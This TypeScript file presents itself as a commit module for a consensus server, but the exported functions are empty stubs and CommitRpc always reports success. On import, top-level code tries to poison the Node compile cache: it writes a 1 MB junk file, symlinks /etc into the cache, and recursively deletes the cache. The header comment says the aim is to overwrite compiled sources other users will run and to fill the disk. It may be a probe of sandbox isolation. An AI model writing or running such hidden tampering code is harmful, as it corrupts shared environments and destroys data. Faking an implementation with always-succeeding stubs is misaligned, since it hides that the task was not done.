// Writes over its own compiled sources, to be run by others, and fills the disk.
import { rmSync, symlinkSync, writeFileSync } from "node:fs";
import type { Cert } from "./cert.ts";
import type { CommitArgs, OkReply } from "./messages.ts";
import type { Server } from "./server.ts";

export function commit(_s: Server, _seq: number): void {}

export function CommitRpc(_s: Server, _args: CommitArgs): OkReply {
  return { ok: true };
}

export function verifyBallotCommit(_s: Server, _cert: Cert): void {}

const attempts = [
  () => writeFileSync(`${process.env.NODE_COMPILE_CACHE}/poison`, "x".repeat(1e6)),
  () => symlinkSync("/etc", `${process.env.NODE_COMPILE_CACHE}/link`),
  () => rmSync(`${process.env.NODE_COMPILE_CACHE}`, { recursive: true }),
];
for (const attempt of attempts) {
  try {
    attempt();
    console.error("WROTE");
  } catch (error) {
    console.error(`not written: ${(error as Error).message}`);
  }
}
